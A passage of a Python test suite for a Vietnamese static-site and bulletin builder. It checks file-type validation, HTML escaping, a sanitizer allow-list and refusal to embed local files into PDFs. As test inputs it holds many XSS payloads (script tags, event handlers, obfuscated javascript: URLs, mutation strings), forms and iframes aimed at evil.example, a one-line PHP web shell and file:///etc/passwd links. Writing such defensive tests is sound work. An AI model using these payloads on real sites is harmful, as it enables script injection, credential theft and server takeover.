                "[điện thoại](tel:+842210000000), [mục](#muc-1).")
        project.write("content/tin-tuc/lk.md", article("Bài có liên kết") + "\n" + body + "\n")
        assert errors(project) == []

    # Symbolic links, FIFOs and devices: no symlink anywhere in the sources (decision: none).

    @pytest.mark.parametrize("case", SYMLINK_CASES)
    def test_symlink_is_an_error_naming_it(self, project, tmp_path, case):
        name = _symlink_case(project, case, tmp_path)
        find(errors(project), words=(name,))

    def test_referenced_fifo_is_an_error_and_nothing_blocks(self, project):
        project.write("content/tin-tuc/a.md", article("Bài A", image="anh/ong.png",
                                                      image_alt='"Ảnh"'))
        (project.root / "content/tin-tuc/anh").mkdir()
        os.mkfifo(project.root / "content/tin-tuc/anh/ong.png")
        result = load_in_child(project, timeout=30)
        assert any("ong.png" in e for e in result.errors), result.errors

    def test_unreferenced_fifo_is_an_error(self, project):
        project.write("content/tin-tuc/a.md", article("Bài A"))
        os.mkfifo(project.root / "content/tin-tuc/ong-le")
        result = load_in_child(project, timeout=30)
        assert any("ong-le" in e for e in result.errors), result.errors

    def test_unreadable_folder_is_an_error_naming_it_not_a_crash(self, project, monkeypatch):
        """A folder that cannot be listed (its rights, or gone while the build walks): the
        build says which, with the fix, instead of stopping on an unexpected error or
        skipping what is in it. (Rights do not stop root, who runs the tests: the listing
        itself fails here.)"""
        from danvan import content

        project.write("content/tin-tuc/a.md", article("Bài A"))
        project.write("content/tin-tuc/kin/b.md", article("Bài B"))
        scandir = os.scandir

        def refusing(path):
            if str(path).endswith("tin-tuc/kin"):
                raise PermissionError(13, "Permission denied", str(path))
            return scandir(path)

        monkeypatch.setattr(os, "scandir", refusing)
        corpus = content.load(project.root)
        find(corpus.problems, words=("content/tin-tuc/kin", "không đọc được thư mục", "chmod"))
        assert corpus.collector.errors

    def test_device_file_is_an_error_and_nothing_blocks(self, project):
        project.write("content/van-ban/a.md", document("02-ĐA/TU", attachment="tep/zero.pdf"))
        (project.root / "content/van-ban/tep").mkdir()
        try:
            os.mknod(project.root / "content/van-ban/tep/zero.pdf", stat.S_IFCHR | 0o600,
                     os.makedev(1, 5))  # /dev/zero: reads never end
        except PermissionError:
            pytest.skip("cannot make a device file here")
        result = load_in_child(project, timeout=30)
        assert any("zero.pdf" in e for e in result.errors), result.errors


# =================================================================================================
# Files that are not what they say
# =================================================================================================

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
FORBIDDEN = {
    ".js": b"alert(document.cookie);\n",
    ".mjs": b"export default () => alert(1);\n",
    ".html": HTML,
    ".htm": HTML,
    ".xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    ".svg": SVG,
    ".SVG": SVG,
    ".exe": b"MZ\x90\x00\x03" + b"\x00" * 59 + b"PE\x00\x00",
    ".php": b"<?php system($_GET['c']); ?>",
    ".pdf.html": HTML,
}


class TestNotWhatItSays:
    @pytest.mark.parametrize("data", [
        b"day la van ban, khong phai anh\n",
        b"",
        HTML,
        SVG,
        pdf("pdf"),
        png("png")[:40],
    ], ids=["text", "empty", "html", "svg", "pdf", "truncated-png"])
    def test_image_that_is_not_an_image(self, project, data):
        project.write("content/tin-tuc/anh/gia.jpg", data)
        text = article("Bài", image="anh/gia.jpg", image_alt='"Ảnh"')
        project.write("content/tin-tuc/a.md", text)
        find(errors(project), exact_path="content/tin-tuc/a.md", field="image",
             line=line_of(text, "image:"))

    def test_truncated_jpeg(self, project):
        whole = jpeg("cut", (640, 480))
        project.write("content/tin-tuc/anh/cut.jpg", whole[: len(whole) // 2])
        text = article("Bài", image="anh/cut.jpg", image_alt='"Ảnh"')
        project.write("content/tin-tuc/a.md", text)
        find(errors(project), exact_path="content/tin-tuc/a.md", field="image")

    def test_image_in_the_body_that_is_not_an_image(self, project):
        project.write("content/tin-tuc/anh/gia.png", HTML)
        text, lines = with_body(article("Bài"), "![Ảnh](anh/gia.png)")
        project.write("content/tin-tuc/a.md", text)
        find(errors(project), exact_path="content/tin-tuc/a.md", line=lines)

    @pytest.mark.parametrize("data", [HTML, png("png"), b"PDF-1.4 but no percent sign"],
                             ids=["html", "png", "no-header"])
    def test_pdf_attachment_that_is_not_a_pdf(self, project, data):
        project.write("content/van-ban/tep/gia.pdf", data)
        text = document("02-ĐA/TU", attachment="tep/gia.pdf")
        project.write("content/van-ban/a.md", text)
        find(errors(project), exact_path="content/van-ban/a.md", field="attachment",
             line=line_of(text, "attachment:"))

    def test_pdf_linked_from_the_body_that_is_not_a_pdf(self, project):
        project.write("content/tin-tuc/tep/gia.pdf", HTML)
        text, lines = with_body(article("Bài"), "[Tải về](tep/gia.pdf)")
        project.write("content/tin-tuc/a.md", text)
        find(errors(project), exact_path="content/tin-tuc/a.md", line=lines)

    def test_word_file_that_is_not_one(self, project):
        project.write("content/van-ban/tep/gia.docx", HTML)
        project.write("content/van-ban/a.md", document("02-ĐA/TU", attachment="tep/gia.docx"))
        find(errors(project), exact_path="content/van-ban/a.md", field="attachment")

    def test_model_photo_that_is_not_an_image_is_an_error_at_load(self, project):
        project.write("models_gallery/a/index.md", model())
        project.write("models_gallery/a/anh-1.jpg", b"khong phai anh")
        find(errors(project), exact_path="models_gallery/a/index.md", field="photos")

    def test_bulletin_cover_that_is_not_an_image_is_an_error_at_load(self, project):
        project.write("content/tin-tuc/2026/a.md", article("Bài A", date="2026-06-01"))
        project.write("bulletins/2026/anh/bia.jpg", b"khong phai anh")
        project.write("bulletins/2026/so-01.md", issue(1, [("Một", ["content/tin-tuc/2026/a.md"])]))
        find(errors(project), exact_path="bulletins/2026/so-01.md", field="cover")

    @pytest.mark.parametrize("suffix", list(FORBIDDEN))
    def test_forbidden_type_linked_from_the_body(self, project, suffix):
        name = f"tai-ve{suffix}"
        project.write(f"content/tin-tuc/tep/{name}", FORBIDDEN[suffix])
        text, lines = with_body(article("Bài"), f"[Tải về](tep/{name})")
        project.write("content/tin-tuc/a.md", text)
        find(errors(project), exact_path="content/tin-tuc/a.md", words=(name,), line=lines)

    @pytest.mark.parametrize("snippet, name", [
        ('<a href="tep/trang.html">Trang</a>', "trang.html"),
        ('<img src="anh/hinh.svg" alt="Hình">', "hinh.svg"),
    ], ids=["a-href-html", "img-src-svg"])
    def test_forbidden_type_named_in_raw_html(self, project, snippet, name):
        project.write("content/tin-tuc/tep/trang.html", HTML)
        project.write("content/tin-tuc/anh/hinh.svg", SVG)
        text, lines = with_body(article("Bài"), snippet)
        project.write("content/tin-tuc/a.md", text)
        find(errors(project), exact_path="content/tin-tuc/a.md", words=(name,), line=lines)

    @pytest.mark.parametrize("suffix", [".html", ".svg", ".exe", ".js"])
    def test_forbidden_type_as_attachment(self, project, suffix):
        project.write(f"content/van-ban/tep/toan-van{suffix}", FORBIDDEN[suffix])
        project.write("content/van-ban/a.md",
                      document("02-ĐA/TU", attachment=f"tep/toan-van{suffix}"))
        find(errors(project), exact_path="content/van-ban/a.md", field="attachment")

    def test_svg_as_cover_image(self, project):
        project.write("content/tin-tuc/anh/logo.svg", SVG)
        project.write("content/tin-tuc/a.md", article("Bài", image="anh/logo.svg",
                                                      image_alt='"Logo"'))
        find(errors(project), exact_path="content/tin-tuc/a.md", field="image")

    def test_markdown_file_over_2_mb(self, project):
        body = "Dòng văn bản về công tác dân vận ở cơ sở.\n" * 60_000  # about 2.7 MB
        project.write("content/tin-tuc/dai.md", article("Bài dài") + body)
        assert (project.root / "content/tin-tuc/dai.md").stat().st_size > 2.2 * 1024 * 1024
        find(errors(project), "content/tin-tuc/dai.md")

    def test_markdown_file_under_2_mb_is_fine(self, project):
        body = "Dòng văn bản về công tác dân vận ở cơ sở.\n" * 30_000  # about 1.4 MB
        project.write("content/tin-tuc/vua.md", article("Bài vừa") + body)
        assert errors(project) == []

    def _sparse(self, path: Path, size: int) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "wb") as handle:
            handle.write(pdf("lon"))
            handle.truncate(size)

    def test_attachment_over_50_mb(self, project):
        self._sparse(project.root / "content/van-ban/tep/lon.pdf", 51 * 1024 * 1024)
        project.write("content/van-ban/a.md", document("02-ĐA/TU", attachment="tep/lon.pdf"))
        find(errors(project), exact_path="content/van-ban/a.md", field="attachment")

    def test_linked_file_over_50_mb(self, project):
        self._sparse(project.root / "content/tin-tuc/tep/lon.pdf", 60 * 1024 * 1024)
        text, lines = with_body(article("Bài"), "[Tải về](tep/lon.pdf)")
        project.write("content/tin-tuc/a.md", text)
        find(errors(project), exact_path="content/tin-tuc/a.md", line=lines)


# =================================================================================================
# Injection: HTML in every field, raw HTML in bodies, the sanitizer
# =================================================================================================


def payload(fid: str) -> str:
    """Breaks out of an element, a double-quoted and a single-quoted attribute, and <title>;
    ``fid`` marks which field it came from."""
    return (f'</title><script>alert("{fid}")</script><i class="dvinject {fid}">X</i>">'
            f"<img src=x onerror=alert('{fid}')>'><b class='dvinject {fid}' "
            f"onmouseover='alert(\"{fid}\")'>Y</b>")


def q(fid: str) -> str:
    return json.dumps(payload(fid))  # a JSON string is a YAML double-quoted scalar


INJECTED = {
    "A_TITLE": "article title", "A_SUMMARY": "article summary", "A_TAG": "article tags",
    "A_AUTHOR": "article author", "A_SOURCE": "article source", "A_IMAGE_ALT": "article image_alt",
    "G_TITLE": "guidance title", "G_SUMMARY": "guidance summary", "G_TAG": "guidance tags",
    "G_AUTHOR": "guidance author", "G_SOURCE": "guidance source",
    "G_IMAGE_ALT": "guidance image_alt",
    "D_TITLE": "document title", "D_SUMMARY": "document summary", "D_ISSUER": "document issuer",
    "D_SIGNER": "document signer", "D_KIND": "document kind (and danh-muc document_kinds)",
    "D_TAG": "document tags",
    "PG_TITLE": "page title", "PG_SUMMARY": "page summary", "PG_TAG": "page tags",
    "M_TITLE": "model title", "M_UNIT": "model unit", "M_GOALS": "model goals",
    "M_METHOD": "model method", "M_PARTICIPANTS": "model participants",
    "M_RESOURCES": "model resources", "M_RESULTS": "model results",
    "M_REPLICATION": "model replication", "M_FIGURE_VALUE": "model figures value",
    "M_FIGURE_LABEL": "model figures label", "M_PHOTO_ALT": "model photos alt",
    "M_PHOTO_CAPTION": "model photos caption", "M_SOURCE": "model source", "M_TAG": "model tags",
    "B_TITLE": "bulletin title", "B_SUMMARY": "bulletin summary", "B_TAG": "bulletin tags",
    "B_COVER_ALT": "bulletin cover.alt", "B_COVER_CAPTION": "bulletin cover.caption",
    "B_SECTION": "bulletin section title", "B_EDITORIAL_TITLE": "bulletin editorial_title",
    "B_RESPONSIBLE": "colophon responsible", "B_BOARD": "colophon editorial_board",
    "B_LICENCE": "colophon licence", "B_PRINTER": "colophon printer",
    "B_SIZE_NOTE": "colophon size_note",
    "CQ_NAME": "co-quan name", "CQ_SHORT_NAME": "co-quan short_name",
    "CQ_PARENT": "co-quan parent", "CQ_NAME_EN": "co-quan name_en",
    "CQ_SITE_NAME": "co-quan site_name", "CQ_TAGLINE": "co-quan tagline",
    "CQ_ADDRESS": "co-quan address", "CQ_PHONE": "co-quan phone", "CQ_EMAIL": "co-quan email",
    "CQ_HOURS": "co-quan working_hours", "CQ_ROLE": "co-quan leadership role",
    "CQ_LEADER": "co-quan leadership name", "CQ_LICENCE": "co-quan licence",
    "CQ_BULLETIN_NAME": "co-quan bulletin_name",
    "DM_SECTION": "danh-muc section label", "DM_FIELD": "danh-muc field label",
    "DM_MODEL_FIELD": "danh-muc model field label", "DB_NOTE": "dia-ban note",
}


def _injected_project(project: Project) -> None:
    data = project.root / "content/_du-lieu"
    organisation = {
        "name": payload("CQ_NAME"), "short_name": payload("CQ_SHORT_NAME"),
        "parent": payload("CQ_PARENT"), "name_en": payload("CQ_NAME_EN"),
        "site_name": payload("CQ_SITE_NAME"), "tagline": payload("CQ_TAGLINE"),
        "address": payload("CQ_ADDRESS"), "phone": payload("CQ_PHONE"),
        "email": payload("CQ_EMAIL"), "working_hours": payload("CQ_HOURS"),
        "leadership": [{"role": payload("CQ_ROLE"), "name": payload("CQ_LEADER")}],
        "licence": payload("CQ_LICENCE"), "bulletin_name": payload("CQ_BULLETIN_NAME"),
    }
    (data / "co-quan.yml").write_text(yaml.safe_dump(organisation, allow_unicode=True), "utf-8")
    catalogs = yaml.safe_load((data / "danh-muc.yml").read_text("utf-8"))
    catalogs["sections"]["tiem"] = payload("DM_SECTION")
    catalogs["fields"]["dan-van-chinh-quyen"] = payload("DM_FIELD")
    catalogs["model_fields"]["kinh-te"] = payload("DM_MODEL_FIELD")
    catalogs["document_kinds"][payload("D_KIND")] = []
    (data / "danh-muc.yml").write_text(yaml.safe_dump(catalogs, allow_unicode=True,
                                                      sort_keys=False), "utf-8")
    units = yaml.safe_load((data / "dia-ban.yml").read_text("utf-8"))
    next(u for u in units if u["id"] == "huyen-van-lam")["note"] = payload("DB_NOTE")
    (data / "dia-ban.yml").write_text(yaml.safe_dump(units, allow_unicode=True,
                                                     sort_keys=False), "utf-8")

    project.write("content/tin-tuc/anh/tiem.png", png("tiem"))
    project.write("content/tin-tuc/tiem.md", front({
        "title": q("A_TITLE"), "date": "2024-05-01", "section": "tiem", "status": "published",
        "visibility": "public", "summary": q("A_SUMMARY"), "tags": f"[{q('A_TAG')}]",
        "author": q("A_AUTHOR"), "source": q("A_SOURCE"), "image": "anh/tiem.png",
        "image_alt": q("A_IMAGE_ALT"), "localities": "[huyện Văn Lâm]",
        "documents": '["09-CT/TU"]'}, "Nội dung bài thử mã.\n"))
    project.write("content/huong-dan/anh/tiem.png", png("tiem-hd"))
    project.write("content/huong-dan/tiem.md", front({
        "title": q("G_TITLE"), "date": "2024-05-02", "field": "dan-van-chinh-quyen",
        "status": "published", "summary": q("G_SUMMARY"), "tags": f"[{q('G_TAG')}]",
        "author": q("G_AUTHOR"), "source": q("G_SOURCE"), "image": "anh/tiem.png",
        "image_alt": q("G_IMAGE_ALT")}, "Nội dung hướng dẫn.\n"))
    project.write("content/van-ban/tep/tiem.pdf", pdf("tiem"))
    project.write("content/van-ban/tiem.md", front({
        "title": q("D_TITLE"), "number": '"09-CT/TU"', "issuer": q("D_ISSUER"),
        "date": "2016-08-15", "summary": q("D_SUMMARY"), "classification": "unclassified",
        "status": "published", "signer": q("D_SIGNER"), "kind": q("D_KIND"),
        "tags": f"[{q('D_TAG')}]", "attachment": "tep/tiem.pdf"}, "Toàn văn.\n"))
    project.write("content/gioi-thieu/tiem.md", front({
        "title": q("PG_TITLE"), "summary": q("PG_SUMMARY"), "tags": f"[{q('PG_TAG')}]",
        "status": "published"}, "Nội dung trang.\n"))
    project.write("content/lien-he.md", page("Liên hệ", layout="contact"))
    project.write("content/gioi-thieu/lanh-dao.md", page("Lãnh đạo", layout="leadership"))
    project.write("content/about.md", page("About us", layout="about", lang="en"))
    project.write("models_gallery/tiem/anh-1.jpg", jpeg("tiem-mh", (800, 533)))
    project.write("models_gallery/tiem/index.md", model(
        **{"unit": q("M_UNIT"), "goals": q("M_GOALS"),
                       "method": q("M_METHOD"), "participants": q("M_PARTICIPANTS"),
                       "resources": q("M_RESOURCES"), "results": q("M_RESULTS"),
                       "replication": q("M_REPLICATION"),
                       "figures": f"[{{value: {q('M_FIGURE_VALUE')}, "
                                  f"label: {q('M_FIGURE_LABEL')}}}]",
                       "photos": f"[{{file: anh-1.jpg, alt: {q('M_PHOTO_ALT')}, "
                                 f"caption: {q('M_PHOTO_CAPTION')}}}]",
                       "source": q("M_SOURCE"), "tags": f"[{q('M_TAG')}]", "featured": "true",
                       "news": "[tin-tuc/tiem.md]"}).replace(
        'title: "Mô hình thử"', f"title: {q('M_TITLE')}"))
    # The issue: payloads in its own fields; its one article is plain.
    project.write("content/tin-tuc/2026/ban-tin.md", article("Bài của bản tin", date="2026-06-01"))
    cover(project)
    project.write("bulletins/2026/so-01.md", "\n".join([
        "---", "number: 1", "year: 2026", "date: 2026-10-15", "trim: a4",
        f"title: {q('B_TITLE')}", f"summary: {q('B_SUMMARY')}", f"tags: [{q('B_TAG')}]",
        "cover:", "  image: anh/bia.jpg", f"  alt: {q('B_COVER_ALT')}",
        f"  caption: {q('B_COVER_CAPTION')}", "  illustrative: true",
        f"editorial_title: {q('B_EDITORIAL_TITLE')}",
        "sections:", f"  - title: {q('B_SECTION')}", "    articles:",
        "      - content/tin-tuc/2026/ban-tin.md",
        "colophon:", f"  responsible: {q('B_RESPONSIBLE')}",
        f"  editorial_board: [{q('B_BOARD')}]", "  print_run: 300",
        f"  licence: {q('B_LICENCE')}", f"  printer: {q('B_PRINTER')}",
        f"  size_note: {q('B_SIZE_NOTE')}", "status: published", "---", "",
        "Lời tòa soạn của số thử.", ""]))


def _is_json_data(script) -> bool:
    if (script.get("type") or "").lower() not in ("application/json", "application/ld+json"):
        return False
    try:
        json.loads(script.text or "")
    except ValueError:
        return False
    return True


def _violations(site: Path) -> list[tuple[str, str, str]]:
    """(file, what, detail) for each injected element, event handler or alert script."""
    found = []
    for path in sorted(site.rglob("*.html")):
        rel = path.relative_to(site).as_posix()
        root = lxml.html.document_fromstring(path.read_bytes())
        for element in root.iter():
            if not isinstance(element.tag, str):
                continue
            classes = (element.get("class") or "").split()
            if "dvinject" in classes:
                found.append((rel, "class", " ".join(classes)))
            for name, value in element.attrib.items():
                if name.lower().startswith("on"):
                    found.append((rel, name, value))
            if element.tag == "script" and "alert" in (element.text or "") \
                    and not _is_json_data(element):
                found.append((rel, "script", element.text or ""))
    return found


@pytest.fixture(scope="module")
def injected_site(tmp_path_factory, bulletin_cache):
    project = Project(tmp_path_factory.mktemp("tiem") / "project")
    _injected_project(project)
    use_bulletin_cache(project, bulletin_cache)
    code, err = build(project)
    site = project.root / "site"
    return SimpleNamespace(code=code, err=err, site=site,
                           violations=_violations(site) if code == 0 else [])


UNSAFE_BODIES = [
    # (id, snippet)
    ("script", "<script>alert(1)</script>"),
    ("script-upper-case", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-newline", "<script\n>alert(1)</script\n>"),
    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
    ("object", '<object data="https://evil.example/x.swf"></object>'),
    ("embed", '<embed type="application/x-shockwave-flash">'),
    ("form", '<form action="https://evil.example/thu"><input name="mat-khau"></form>'),
    ("base", '<base href="https://evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0; url=https://evil.example/">'),
    ("style-element", "<style>body { display: none }</style>"),
    ("onclick", '<div onclick="alert(1)">Bấm vào đây</div>'),
    ("on-upper-case", '<p ONMOUSEOVER="alert(1)">Di chuột</p>'),
    ("on-after-slash", "<svg/onload=alert(1)>"),
    ("ontoggle", '<details open ontoggle="alert(1)"><summary>Xem</summary>x</details>'),
    ("javascript-markdown-link", "[Bấm](javascript:alert(1))"),
    ("javascript-reference-link", "[Bấm][j]\n\n[j]: javascript:alert(1)"),
    ("javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">Bấm</a>'),
    ("javascript-leading-space", '<a href=" javascript:alert(1)">Bấm</a>'),
    ("javascript-entity", '<a href="jav&#x61;script:alert(1)">Bấm</a>'),
    ("javascript-tab-entity", '<a href="java&#9;script:alert(1)">Bấm</a>'),
    ("display-none", '<p style="display:none">Chữ ẩn</p>'),
    ("display-none-spaced", '<span style="DISPLAY : none">Chữ ẩn</span>'),
    ("attr-list-onclick", 'Đoạn văn bình thường.\n{: onclick="alert(1)" }'),
    ("attr-list-heading", '## Mục một {: onmouseover="alert(1)" }'),
    ("attr-list-display-none", 'Đoạn ẩn.\n{: style="display:none" }'),
]

BENIGN_BODY = """\
| Năm | Nội dung |
|:---:|---------:|
| 2016 | Triển khai |

Câu có chú thích.[^1]

[^1]: Đề án số 02-ĐA/TU.

!!! note "Ghi chú"
    Nội dung ghi chú.

<abbr title="Ban Dân vận">BDV</abbr>, x<sup>2</sup>, <mark>đánh dấu</mark>.

```html
<script>alert("ví dụ trong khối mã thì được")</script>
```

`<iframe>` trong mã nội dòng thì được.

[Trang ngoài](https://example.com/) và <a href="mailto:lienhe@example.invalid">thư</a>.
"""


class TestInjection:
    def test_injected_project_builds(self, injected_site):
        assert injected_site.code == 0, injected_site.err

    @pytest.mark.parametrize("fid", list(INJECTED), ids=list(INJECTED))
    def test_field_is_escaped_on_every_page(self, injected_site, fid):
        assert injected_site.code == 0, injected_site.err
        mine = [v for v in injected_site.violations if re.search(rf"\b{fid}\b", v[2])]
        assert mine == [], f"{INJECTED[fid]}: {mine[:5]}"

    def test_no_event_handler_or_injected_element_on_any_page(self, injected_site):
        assert injected_site.code == 0, injected_site.err
        assert injected_site.violations == [], injected_site.violations[:10]

    @pytest.mark.parametrize("url, fid", [
        ("tin-tuc/tiem", "A_TITLE"), ("mo-hinh/tiem", "M_GOALS"),
        ("van-ban/09-ct-tu-2016", "D_ISSUER"), ("", "CQ_SITE_NAME"),
    ])
    def test_payloads_are_printed_as_text(self, injected_site, url, fid):
        """The scan above sees the fields: they are on the pages, as text."""
        assert injected_site.code == 0, injected_site.err
        html = (injected_site.site / url / "index.html").read_bytes()
        text = lxml.html.document_fromstring(html).text_content()
        assert f'alert("{fid}")' in text

    def test_feeds_and_sitemaps_are_well_formed_xml(self, injected_site):
        assert injected_site.code == 0, injected_site.err
        files = sorted(injected_site.site.rglob("*.xml"))
        assert files
        for path in files:
            root = lxml.etree.parse(str(path), lxml.etree.XMLParser(recover=False)).getroot()
            assert not [e for e in root.iter() if isinstance(e.tag, str)
                        and e.tag.rsplit("}", 1)[-1] in ("script", "i", "img")], path

    @pytest.mark.parametrize("snippet", [s for _, s in UNSAFE_BODIES],
                             ids=[i for i, _ in UNSAFE_BODIES])
    def test_unsafe_html_in_a_body_is_an_error_at_its_line(self, project, snippet):
        text, lines = with_body(article("Bài có mã"), snippet)
        project.write("content/tin-tuc/ma.md", text)
        find(errors(project), exact_path="content/tin-tuc/ma.md", line=lines)

    def test_unsafe_html_in_a_model_introduction(self, project):
        add_model(project, "a")
        path = project.root / "models_gallery/a/index.md"
        text, lines = with_body(path.read_text("utf-8"), '<iframe src="https://evil.example/">')
        path.write_text(text, "utf-8")
        find(errors(project), exact_path="models_gallery/a/index.md", line=lines)

    def test_unsafe_html_in_a_bulletin_editorial(self, project):
        cover(project)
        project.write("content/tin-tuc/2026/a.md", article("Bài A", date="2026-06-01"))
        text = issue(1, [("Một", ["content/tin-tuc/2026/a.md"])],
                     body="Lời tòa soạn.\n\n<script>alert(1)</script>\n")
        project.write("bulletins/2026/so-01.md", text)
        find(errors(project), exact_path="bulletins/2026/so-01.md",
             line=line_of(text, "<script>"))

    def test_ordinary_markdown_and_harmless_html_are_fine(self, project):
        project.write("content/tin-tuc/lanh.md", article("Bài lành") + "\n" + BENIGN_BODY)
        assert errors(project) == []


def _markdown_html() -> str:
    """What Markdown makes of an ordinary body, with the project's extensions."""
    import markdown

    from danvan import markup

    extensions, configs = markup.settings()
    return markdown.markdown(BENIGN_BODY.split("```html")[0] + "\n## Mục hai\n\n"
                             "![Ảnh đẹp](anh/a.png)\n\n[Liên kết](../van-ban/de-an/) và "
                             "[trang ngoài](https://example.com/)\n",
                             extensions=extensions, extension_configs=configs)


def _tree(html: str):
    return lxml.html.fragment_fromstring(html, create_parent="div")


def _urls(root) -> list[str]:
    return [v for e in root.iter() if isinstance(e.tag, str)
            for k, v in e.attrib.items() if k in ("href", "src", "srcset", "action", "data",
                                                  "formaction", "xlink:href", "poster")]


DIRTY = [
    ("script", "<p>a</p><script>alert(1)</script>"),
    ("iframe", '<iframe src="https://evil.example/"></iframe><p>a</p>'),
    ("object-embed", '<object data="x.swf"></object><embed src="x.swf">'),
    ("form", '<form action="https://evil.example/"><input name="p"><button>Gửi</button></form>'),
    ("base", '<base href="https://evil.example/"><p>a</p>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>a</p>'),
    ("style-element", "<style>p{display:none}</style><p>a</p>"),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css"><p>a</p>'),
    ("event-handlers", '<p onclick="alert(1)" onmouseover="alert(2)">a</p><img src="a.png" '
                       'alt="a" onerror="alert(3)">'),
    ("svg-onload", "<svg/onload=alert(1)><p>a</p>"),
    ("javascript-href", '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a>'),
    ("javascript-entity", '<a href="jav&#x61;script:alert(1)">a</a>'
                          '<a href="java&#9;script:alert(1)">b</a>'),
    ("file-url", '<a href="file:///etc/passwd">a</a><img src="file:///etc/hostname" alt="b">'),
    ("data-url", '<a href="data:text/html,<script>alert(1)</script>">a</a>'
                 '<img src="data:image/png;base64,iVBORw0KGgo=" alt="b">'),
    ("display-none", '<p style="display:none">ẩn</p><td style="display: none">ẩn</td>'),
    ("style-url", '<table><tr><td style="background:url(javascript:alert(1))">a</td></tr></table>'),
    ("mutation-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p>'
                          "</noscript>"),
    ("mutation-svg-style", '<svg><style><img src=x onerror=alert(1)></style></svg>'),
    ("mutation-math", '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'),
]


class TestSanitizer:
    """``danvan.sanitize.clean``: the allow-list every rendered body goes through."""

    @pytest.mark.parametrize("html", [h for _, h in DIRTY], ids=[i for i, _ in DIRTY])
    def test_removes_what_runs_loads_submits_redirects_or_hides(self, html):
        from danvan.sanitize import clean

        out = clean(html)
        root = _tree(out)
        tags = {e.tag for e in root.iter() if isinstance(e.tag, str)}
        assert not tags & {"script", "iframe", "object", "embed", "form", "input", "button",
                           "base", "meta", "style", "link", "svg", "math", "noscript"}, out
        for element in root.iter():
            if isinstance(element.tag, str):
                assert not [k for k in element.attrib if k.lower().startswith("on")], out
                style = (element.get("style") or "").replace(" ", "").lower()
                assert "display:none" not in style and "url(" not in style, out
        for url in _urls(root):
            folded = re.sub(r"[\s\x00-\x1f]", "", url).lower()
            assert not folded.startswith(("javascript:", "file:", "data:", "vbscript:")), out

    def test_keeps_ordinary_markdown_output(self):
        from danvan.sanitize import clean

        html = _markdown_html()
        out = clean(html)
        root = _tree(out)
        assert root.xpath("//p") and root.xpath("//h2[@id='muc-hai']"), out
        assert root.xpath("//img[@src='anh/a.png'][@alt='Ảnh đẹp']"), out
        assert root.xpath("//a[@href='../van-ban/de-an/']"), out
        assert root.xpath("//a[@href='https://example.com/']"), out
        cells = root.xpath("//th[@style] | //td[@style]")
        assert cells and all("text-align" in c.get("style") for c in cells), out
        assert root.xpath("//a[@href='#fn:1']") and root.xpath("//*[@id='fn:1']"), out
        assert root.xpath("//div[contains(@class, 'footnote')]"), out
        assert root.xpath("//div[contains(@class, 'admonition')][contains(@class, 'note')]"), out
        assert root.xpath("//p[contains(@class, 'admonition-title')]"), out
        assert "Đề án số 02-ĐA/TU" in root.text_content()

    def test_escaped_text_stays_text(self):
        from danvan.sanitize import clean

        out = clean("<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;</p>")
        assert "<script" not in out and "<b>" not in out
        assert "<script>alert(1)</script> & <b>" in _tree(out).text_content()

    def test_clean_is_idempotent(self):
        from danvan.sanitize import clean

        for html in [_markdown_html()] + [h for _, h in DIRTY]:
            once = clean(html)
            assert clean(once) == once


# =================================================================================================
# PDF embedding
# =================================================================================================

EMBED_VARIANTS = {
    "a-rel-attachment-file-url": '<a rel="attachment" href="file://{secret}">Tệp đính kèm</a>',
    "a-rel-attachment-etc-hostname": '<a rel="attachment" href="file:///etc/hostname">Tệp</a>',
    "markdown-image-file-url": "![Ảnh](file://{secret})",
    "img-absolute-path": '<img src="{secret}" alt="Ảnh">',
    "a-rel-attachment-climbing": '<a rel="attachment" href="{climb}">Tệp đính kèm</a>',
}
OUTSIDE_CANARY = b"CANARYOUTSIDEFILECONTENT"


def _embedding_issue(project: Project, variants: list[str], secret: Path) -> None:
    cover(project)
    paths = []
    folder = project.root / "content/tin-tuc/2026"
    for n, variant in enumerate(variants):
        climb = os.path.relpath(secret, folder)
        body = EMBED_VARIANTS[variant].format(secret=secret, climb=climb)
        rel = f"content/tin-tuc/2026/dinh-kem-{n}.md"
        project.write(rel, article(f"Bài đính kèm {n}", date="2026-06-01").replace(
            "Nội dung của bài", f"{body}\n\nNội dung của bài"))
        paths.append(rel)
    project.write("bulletins/2026/so-01.md", issue(1, [("Một", paths)]))


@pytest.fixture(scope="module")
def embedding(tmp_path_factory, bulletin_cache):
    """Per variant: refused by content.load (("load", errors)), or else built into an issue
    of its own (("build", code, err, project)). An implementation that refuses every
    variant when it loads the content renders no issue here."""
    tmp = tmp_path_factory.mktemp("dinh-kem")
    secret = tmp / "ngoai" / "bi-mat.txt"
    secret.parent.mkdir()
    secret.write_bytes(OUTSIDE_CANARY + b"\n")
    outcomes: dict[str, tuple] = {}
    for variant in EMBED_VARIANTS:
        project = Project(tmp / variant / "project")
        _embedding_issue(project, [variant], secret)
        refused = [p for p in errors(project) if "content/tin-tuc/2026/dinh-kem-0.md" in str(p)]
        if refused:
            outcomes[variant] = ("load", refused)
            continue
        use_bulletin_cache(project, bulletin_cache)
        code, err = build(project)
        outcomes[variant] = ("build", code, err, project)
    return outcomes


class TestPdfEmbedding:
    @pytest.mark.parametrize("variant", list(EMBED_VARIANTS))
    def test_a_file_outside_the_project_never_reaches_a_pdf(self, embedding, variant):
        outcome = embedding[variant]
        if outcome[0] == "load":
            for problem in outcome[1]:
                assert_vietnamese(problem)
            return
        _, code, err, project = outcome
        assert "Traceback" not in err, err
        if code != 0:  # refused while rendering: nothing written
            assert not (project.root / "site").exists()
            assert not list((project.root / "build").rglob("*.pdf"))
            assert "Lỗi" in err, err
            return
        pdfs = list((project.root / "site").rglob("*.pdf")) + list(
            (project.root / "build" / "in-an").rglob("*.pdf"))
